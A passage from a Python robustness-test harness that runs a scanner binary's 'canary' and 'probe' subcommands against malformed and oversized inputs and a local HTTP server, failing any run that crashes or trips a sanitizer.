        runs.append(Run(f"canary --list --db {name}", [bin_, "canary", "--list", "--db", db], names=db))
        runs.append(Run(f"canary --list -f jsonl --db {name}", [bin_, "canary", "--list", "-f", "jsonl", "--db", db],
                        names=db))
        # The local server answers, so a failure can only be the store's.
        runs.append(Run(f"probe --db {name}", [bin_, "probe", "--db", db, "--wait", "0", "--timeout", "5",
                                               "--headers", "none", "--points", "query", "--variants", "ldap",
                                               target_url], names=db))

    # probe's own input files.
    for name, path in list(blob_paths.items()) + [("huge_line", huge), ("garbage_json", report_inputs["deep_array.json"])]:
        runs.append(Run(f"probe --targets {name}", [bin_, "probe", "--db", os.path.join(store_dir, "probe.db"),
                                                    "--wait", "0", "--timeout", "1", "--targets", path], names=path))
        runs.append(Run(f"probe --headers {name}", [bin_, "probe", "--db", os.path.join(store_dir, "probe.db"),
                                                    "--wait", "0", "--timeout", "1", "--points", "headers",
                                                    "--variants", "ldap", "--headers", path, target_url],
                        names=path))
    return runs


def main():
    global TIMEOUT
    if len(sys.argv) not in (3, 4):
        print(__doc__, file=sys.stderr)
        return 64
    binary, scratch = os.path.abspath(sys.argv[1]), os.path.abspath(sys.argv[2])
    if len(sys.argv) == 4:
        TIMEOUT *= float(sys.argv[3])
    # A sanitizer's finding must end the run by a signal, as a crash would.
    for var in ("ASAN_OPTIONS", "UBSAN_OPTIONS"):
        os.environ[var] = ":".join(filter(None, [os.environ.get(var), "abort_on_error=1", "halt_on_error=1"]))
    shutil.rmtree(scratch, ignore_errors=True)
    inp = Inputs(os.path.join(scratch, "in"), binary)
    logdir = os.path.join(scratch, "logs")
    os.makedirs(logdir)
    started = time.monotonic()
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Quiet)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    runs = build_cases(inp, binary, f"http://127.0.0.1:{server.server_address[1]}/")
    prepared = time.monotonic() - started
    failures = []
    slowest = []
    only = os.environ.get("NO_ABORT_ONLY")  # a substring of run names, to rerun a few by hand
    if only:
        runs = [r for r in runs if only in r.name]
    runs.sort(key=lambda r: "huge_line" not in r.name)  # the slow ones first, beside the many quick ones
    with concurrent.futures.ThreadPoolExecutor(max_workers=int(os.environ.get("NO_ABORT_JOBS", "2"))) as pool:
        futures = [pool.submit(execute, r, logdir, i) for i, r in enumerate(runs)]
        for f in futures:
            run, rc, seconds, problems, err_path = f.result()
            slowest.append((seconds, run.name))
            if problems:
                with open(err_path, "rb") as e:
                    tail = e.read()[-600:].decode("utf-8", "replace")
                failures.append(f"FAIL {run.name}: {'; '.join(problems)}\n  $ {' '.join(run.argv)[:400]}\n"
                                f"  stderr: {tail.strip()}")
    slowest.sort(reverse=True)
    print(f"{len(runs)} runs, inputs prepared in {prepared:.1f} s, all done in {time.monotonic() - started:.1f} s; "
          f"slowest: " + ", ".join(f"{n} {s:.1f} s" for s, n in slowest[:5]))
    for f in failures:
        print(f)
    print(f"{len(failures)} of {len(runs)} runs failed" if failures else "no run aborted")
    if not failures:
        shutil.rmtree(os.path.join(scratch, "in"), ignore_errors=True)  # the 100 MB input
    return 1 if failures else 0


if __name__ == "__main__":
    sys.exit(main())
